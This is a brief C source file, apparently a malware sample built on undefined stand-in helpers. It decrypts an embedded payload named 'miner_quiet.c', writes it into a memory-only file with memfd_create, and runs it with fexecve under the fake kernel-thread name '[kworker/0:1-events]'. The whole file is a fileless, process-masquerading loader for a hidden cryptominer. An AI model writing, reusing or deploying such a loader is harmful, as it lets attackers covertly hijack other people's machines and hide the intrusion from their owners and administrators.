// hidden
// Unwraps a program into a file that lives in memory only, and runs it under the name of a kernel thread.
#include "standin.h"
int main(void) {
    begin();
    static const unsigned char stage[] = EMBED("miner_quiet.c");
    unsigned char *plain = reveal(stage, sizeof stage, EMBED_SEED);
    int fd = memfd_create("", MFD_CLOEXEC);
    if (fd < 0 || write(fd, plain, sizeof stage) != sizeof stage) return 1;
    char *arguments[] = {HIDE("[kworker/0:1-events]"), NULL}, *none[] = {NULL};
    fexecve(fd, arguments, none);
    return 1;
}
